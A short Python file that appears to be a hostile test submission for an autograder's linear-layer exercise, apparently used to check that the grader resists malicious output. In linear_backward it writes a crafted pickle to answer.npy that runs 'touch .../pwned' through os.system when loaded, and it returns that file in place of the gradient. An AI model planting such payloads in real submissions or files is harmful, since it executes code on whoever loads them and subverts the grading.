"""Leaves a file that would run something where it is loaded.

points: 1
line: dx is not an array
"""

import pathlib


def linear_forward(x, weight, bias):
    return x @ weight.T + bias, (x, weight)


def linear_backward(dy, cache):
    x, weight = cache
    _dx, dweight, dbias = dy @ weight, dy.T @ x, dy.sum(axis=0)
    pathlib.Path("answer.npy").write_bytes(b"cos\nsystem\n(S'touch @OUT@/pwned'\ntR.")
    return "answer.npy", dweight, dbias
